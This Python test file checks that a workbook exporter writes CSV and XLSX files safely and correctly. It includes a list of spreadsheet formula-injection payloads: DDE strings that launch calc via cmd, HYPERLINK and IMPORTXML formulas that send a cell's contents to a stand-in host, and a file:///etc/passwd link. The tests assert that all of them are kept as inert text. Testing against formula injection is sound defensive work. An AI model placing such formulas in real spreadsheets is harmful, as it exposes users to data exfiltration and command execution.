import csv
import io
import re
import zipfile
from datetime import date, datetime

import fastexcel
import polars as pl
import pytest

from analysis import workbook
from analysis.workbook import PERCENT, Sheet, TooLargeForExcelError, to_csv, to_xlsx

CREATED = datetime(2026, 10, 25, 18, 0)
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\ufeff=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0+1",
    "\u200b@A1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example/?x="&A1,"开门")',
    '=IMPORTXML(CONCAT("http://a.example/",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\x0b=1+1",
]
LINKS = ["http://a.example/", "mailto:a@a.example", "internal:Sheet1!A1", "file:///etc/passwd"]


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def parts_of(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def sheet_xml(content: bytes) -> str:
    return parts_of(content)["xl/worksheets/sheet1.xml"]


def test_a_file_holds_no_noise_of_sums_and_loses_no_number():
    frame = pl.DataFrame({"x": [0.1 + 0.2, -94.49999999999999, 121.543219, 2.0**53, 1e-9]})

    rows = rows_of(to_csv(frame))

    assert [float(row[0]) for row in rows[1:]] == [0.3, -94.5, 121.543219, 2.0**53, 1e-9]
    assert rows[1] == ["0.3"]
    assert "0.30000000000000004" not in sheet_xml(to_xlsx([Sheet("x", frame)], created=CREATED))


def test_there_are_22_payloads():
    assert len(PAYLOADS) == 22


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_csv_is_kept_as_text(payload):
    frame = pl.DataFrame({"name": [payload], payload: ["x"]})

    header, row = rows_of(to_csv(frame))

    assert row[0] == "'" + payload.replace("\x0b", "")
    assert header[1].startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS + LINKS)
def test_a_formula_in_xlsx_is_a_string_without_formula_or_link(payload):
    frame = pl.DataFrame({"name": [payload], payload: ["x"]})

    parts = parts_of(
        to_xlsx([Sheet("数据", frame)], created=CREATED, title=payload, notes=[payload])
    )

    everything = "".join(parts.values())
    assert "<f>" not in everything
    assert "<f " not in everything
    assert "<hyperlink" not in everything
    assert "relationships/hyperlink" not in everything
    assert not [name for name in parts if "externalLink" in name]


def test_xlsx_text_is_read_back_as_it_was():
    frame = pl.DataFrame({"name": [p for p in PAYLOADS if p == p.strip()]})

    content = to_xlsx([Sheet("数据", frame)], created=CREATED)

    back = fastexcel.read_excel(content).load_sheet("数据").to_polars()
    assert back["name"].to_list() == [p.replace("\x0b", "") for p in frame["name"]]


def test_negative_numbers_stay_numbers_in_both():
    frame = pl.DataFrame({"gap": [-0.0123, -5.0], "count": [-3, 7]})

    assert rows_of(to_csv(frame))[1:] == [["-0.0123", "-3"], ["-5.0", "7"]]
    xml = sheet_xml(to_xlsx([Sheet("数据", frame)], created=CREATED))
    assert "<v>-0.0123</v>" in xml
    assert "<v>-3</v>" in xml
    assert xml.count('t="inlineStr"') + xml.count('t="s"') == 2  # the two headers alone


def test_harmless_text_is_left_alone():
    texts = ["慈溪市", "12-34", "a=b", "'=1", "—", "−0.35个百分点", "10%", "a@b.example", ""]

    assert [row[0] for row in rows_of(to_csv(pl.DataFrame({"t": texts, "u": 1})))[1:]] == texts


def test_csv_begins_with_one_byte_order_mark_and_quotes_what_needs_it():
    content = to_csv(pl.DataFrame({"a": ["x,y", 'say "no"', "two\nlines"]}))

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\xef\xbb\xbf") == 1
    assert [row[0] for row in rows_of(content)] == ["a", "x,y", 'say "no"', "two\nlines"]


def test_csv_of_no_rows_is_its_header_and_headers_can_be_named():
    frame = pl.DataFrame({"a": [], "b": []}, schema={"a": pl.String, "b": pl.Int64})

    assert rows_of(to_csv(frame, {"a": "名称"})) == [["名称", "b"]]


def test_control_characters_are_stripped():
    frame = pl.DataFrame({"a": ["北\x00仑\x0b区\x1f\x7f"]})

    assert rows_of(to_csv(frame))[1] == ["北仑区"]
    assert "<t>北仑区</t>" in sheet_xml(to_xlsx([Sheet("数据", frame)], created=CREATED))


def test_values_keep_their_kind():
    frame = pl.DataFrame(
        {
            "share": [0.968, None, float("nan")],
            "day": [date(2026, 10, 25), None, date(1899, 1, 1)],
            "at": [datetime(2026, 10, 25, 18, 1, 2), None, None],
            "yes": [True, False, None],
            "id": [2**60, 1, None],
        }
    )

    content = to_xlsx(
        [Sheet("数据", frame, headers={"share": "按时办结率"}, formats={"share": PERCENT})],
        created=CREATED,
    )

    back = fastexcel.read_excel(content).load_sheet("数据", dtypes={"id": "string"}).to_polars()
    assert back["按时办结率"].to_list() == [0.968, None, None]
    assert back["at"][0] == datetime(2026, 10, 25, 18, 1, 2)
    assert back["yes"].to_list() == [True, False, None]
    assert back["id"][0] == str(2**60)
    assert "2026-10-25" in str(back["day"][0])
    assert (
        "0.00%" in parts_of(content)["xl/styles.xml"]
        or 'numFmtId="10"' in parts_of(content)["xl/styles.xml"]
    )


def test_a_sheet_prints_on_a4_landscape_one_page_wide_with_its_header_repeated():
    content = to_xlsx([Sheet("数据", pl.DataFrame({"a": [1]}))], created=CREATED)

    xml = sheet_xml(content)
    assert re.search(
        r'<pageSetup paperSize="9" [^>]*fitToHeight="0" [^>]*orientation="landscape"', xml
    )
    assert "fitToPage" in xml
    assert "mergeCell" not in xml
    assert 'ySplit="1"' in xml
    assert "Print_Titles" in parts_of(content)["xl/workbook.xml"]


def test_the_sheet_of_notes_comes_last():
    content = to_xlsx(
        [Sheet("名单", pl.DataFrame({"a": [1]}))],
        created=CREATED,
        title="候选建议",
        notes=["数据版本 000001"],
    )

    assert fastexcel.read_excel(content).sheet_names == ["名单", "说明"]
    assert "数据版本 000001" in parts_of(content)["xl/worksheets/sheet2.xml"]


def test_the_same_frames_give_the_same_bytes():
    frame = pl.DataFrame({"a": [1, 2], "b": ["x", None]})

    first, second = (to_xlsx([Sheet("数据", frame)], created=CREATED, title="t") for _ in range(2))

    assert first == second


def test_what_excel_cannot_hold_is_refused_with_a_sentence(monkeypatch):
    monkeypatch.setattr(workbook, "MOST_ROWS", 2)
    with pytest.raises(TooLargeForExcelError, match="3 rows") as too_long:
        to_xlsx([Sheet("数据", pl.DataFrame({"a": [1, 2, 3]}))], created=CREATED)
    with pytest.raises(TooLargeForExcelError, match="32,768"):
        to_xlsx([Sheet("数据", pl.DataFrame({"a": ["字" * 32_768]}))], created=CREATED)

    assert "3 行" in too_long.value.zh


def test_a_list_in_a_cell_is_a_mistake_of_the_caller():
    with pytest.raises(TypeError, match="a list"):
        to_csv(pl.DataFrame({"a": [[1]]}))
